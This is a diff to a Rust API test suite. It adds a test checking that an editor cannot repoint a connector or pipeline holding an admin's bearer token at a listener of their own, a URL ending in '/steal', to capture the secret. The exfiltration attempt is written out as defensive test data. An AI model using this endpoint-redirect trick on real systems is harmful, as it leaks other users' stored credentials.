@@ -543,15 +543,15 @@ async fn secrets_are_masked_in_every_response_and_kept_when_sent_back() {
     let before = api.state.meta.connector(&ids[1]).unwrap().unwrap().config["password"].as_str().unwrap().to_string();
     assert!(before.starts_with("enc:v1:"), "{before}");
     assert_eq!(key.decrypt(&before).unwrap(), "sekrit-password");
-    // Sending the masked value back with another change keeps the secret.
+    // Sending the masked value back with another change (not of the endpoint) keeps the secret.
     let mut back = json!({"connector_type": "postgresql", "config": shown.body["config"]});
-    back["config"]["port"] = json!(5433);
+    back["config"]["connection_pool_size"] = json!(11);
     let r = api.put(&format!("/connectors/{}", ids[1]), &admin, back).await;
     assert_eq!(r.status, StatusCode::OK, "{r:?}");
     assert!(!r.text.contains("sekrit"));
     let stored = api.state.meta.connector(&ids[1]).unwrap().unwrap();
     assert_eq!(stored.config["password"], before.as_str(), "the same ciphertext");
-    assert_eq!(stored.config["port"], 5433);
+    assert_eq!(stored.config["connection_pool_size"], 11);
 
     // Pipeline documents too: a REST destination's token is encrypted, masked, and a PUT of
     // the masked document is no new version.
@@ -585,6 +585,64 @@ async fn secrets_are_masked_in_every_response_and_kept_when_sent_back() {
     assert_eq!(t.body["ok"], true, "{t:?}");
     std::fs::write(api.files().join("missing.jsonl"), "{}\n").unwrap();
     assert_eq!(api.post(&format!("/connectors/{cid}/test?role=source"), &admin, json!({})).await.body["ok"], true);
+}
+
+/// The scenario: an admin saved a REST connector with a bearer token; an editor
+/// points it (or a pipeline that holds such a token) at a listener of theirs and sends the
+/// token back masked. Refused, naming the secret; the listener hears nothing, not even from
+/// a connection test.
+#[tokio::test]
+async fn an_editor_cannot_send_a_stored_secret_to_a_new_endpoint() {
+    use std::sync::{Arc, Mutex};
+    let heard: Arc<Mutex<Vec<String>>> = Arc::default();
+    let h = heard.clone();
+    let app = axum::Router::new().fallback(move |headers: axum::http::HeaderMap| {
+        let h = h.clone();
+        async move {
+            h.lock().unwrap().push(format!("{headers:?}"));
+            axum::Json(json!([]))
+        }
+    });
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let theirs = listener.local_addr().unwrap();
+    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
+
+    let api = TestApi::with(|c| c.master_key = Some("000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f".into()));
+    let admin = api.admin().await;
+    let editor = api.user(&admin, "ed", "editor").await;
+    let saved = json!({"name": "crm", "connector_type": "rest_api", "config": {"url": "https://crm.example.com/v1/items", "auth_method": "bearer_token", "auth_params": {"token": "admins-token"}}});
+    let r = api.post("/connectors", &admin, saved).await;
+    assert_eq!(r.status, StatusCode::CREATED, "{r:?}");
+    let id = r.body["id"].as_str().unwrap().to_string();
+    let mut moved = api.get(&format!("/connectors/{id}"), &editor).await.body;
+    assert_eq!(moved["config"]["auth_params"]["token"], "********");
+    moved["config"]["url"] = json!(format!("http://{theirs}/steal"));
+    let r = api.put(&format!("/connectors/{id}"), &editor, json!({"name": "crm", "connector_type": "rest_api", "config": moved["config"]})).await;
+    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{r:?}");
+    assert_eq!(r.body["error"]["details"][0]["path"], "config.auth_params.token", "{r:?}");
+    assert!(r.body["error"]["message"].as_str().unwrap().contains("config.url"), "{r:?}");
+    let t = api.post(&format!("/connectors/{id}/test"), &editor, json!({})).await;
+    assert_eq!(t.status, StatusCode::OK, "{t:?}");
+    // Entering the secret again is a change of the editor's own.
+    moved["config"]["auth_params"]["token"] = json!("editors-own-token");
+    let r = api.put(&format!("/connectors/{id}"), &editor, json!({"name": "crm", "connector_type": "rest_api", "config": moved["config"]})).await;
+    assert_eq!(r.status, StatusCode::OK, "{r:?}");
+    let _ = api.post(&format!("/connectors/{id}/test"), &editor, json!({})).await;
+    let said = heard.lock().unwrap().join("\n");
+    assert!(!said.contains("admins-token"), "{said}");
+
+    // The same through a pipeline document.
+    let doc = json!({"name": "p", "source": {"connector_type": "rest_api", "config": {"url": "https://crm.example.com/v1/items", "auth_method": "bearer_token", "auth_params": {"token": "admins-token"}}},
+        "destination": {"connector_type": "file", "config": {"path": "out.jsonl", "format": "jsonl"}}});
+    let r = api.post("/pipelines", &admin, doc).await;
+    assert_eq!(r.status, StatusCode::CREATED, "{r:?}");
+    let pid = r.body["id"].as_str().unwrap().to_string();
+    let mut d = r.body["document"].clone();
+    d["source"]["config"]["url"] = json!(format!("http://{theirs}/steal"));
+    let r = api.put(&format!("/pipelines/{pid}"), &editor, d).await;
+    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{r:?}");
+    assert_eq!(r.body["error"]["details"][0]["path"], "source.config.auth_params.token", "{r:?}");
+    assert!(!heard.lock().unwrap().join("\n").contains("admins-token"));
 }
 
 #[tokio::test]
